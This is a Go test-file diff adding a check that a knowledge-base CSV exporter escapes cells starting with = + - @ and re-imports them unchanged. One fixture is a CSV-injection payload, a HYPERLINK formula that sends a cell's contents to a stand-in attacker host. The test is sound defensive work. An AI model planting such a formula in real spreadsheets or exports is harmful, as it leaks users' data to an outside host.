@@ -2,6 +2,7 @@ package knowledge_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 
@@ -192,5 +193,58 @@ func TestImportByteOrderMark(t *testing.T) {
 				t.Errorf("%s: row %d: %+v", c.format, r.Row, r)
 			}
 		}
+	}
+}
+
+// TestCSVExportNoFormulas: a CSV export opened in a spreadsheet must not
+// run FAQ text as a formula (CSV injection: a cell starting with = + - @
+// is evaluated by Excel and LibreOffice), so such cells are written with a
+// leading apostrophe, which the import removes again: exports still
+// re-import unchanged.
+func TestCSVExportNoFormulas(t *testing.T) {
+	items := []tandem.FAQ{
+		{ID: "faq_1", ExternalID: "=ext", Question: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, Phrasings: []string{"+1 for cmd", "@SUM(1)"},
+			Answer: "- step one\n- step two", Category: "@cat", Tags: []string{"-tag", "ok"}, Intent: "+intent", Locale: "en", Status: tandem.FAQPublished},
+		{ID: "faq_2", ExternalID: "'quoted", Question: "'=not a formula?", Answer: "''", Locale: "en", Status: tandem.FAQDraft},
+	}
+	var buf bytes.Buffer
+	e, err := knowledge.NewExporter(&buf, knowledge.FormatCSV)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, it := range items {
+		if err := e.Write(it); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := e.Close(); err != nil {
+		t.Fatal(err)
+	}
+	cells, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range cells[1:] {
+		for _, c := range row {
+			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
+				t.Errorf("cell %q starts a formula", c)
+			}
+		}
+	}
+	recs, err := knowledge.ParseImport(bytes.NewReader(buf.Bytes()), knowledge.FormatCSV)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, r := range recs {
+		want, _ := knowledge.Normalize(items[i])
+		want.ID = ""
+		if r.Err != nil || !knowledge.SameContent(r.FAQ, want) {
+			t.Errorf("row %d: got %+v (%v), want %+v", i+1, r.FAQ, r.Err, want)
+		}
+	}
+	// A hand-written leading apostrophe before other text is content.
+	recs, _ = knowledge.ParseImport(strings.NewReader("external_id,question,answer\n'a,'Tis the season?,Yes.\n"), knowledge.FormatCSV)
+	if recs[0].Err != nil || recs[0].FAQ.ExternalID != "'a" || recs[0].FAQ.Question != "'Tis the season?" {
+		t.Errorf("hand-written apostrophes: %+v", recs[0])
 	}
 }
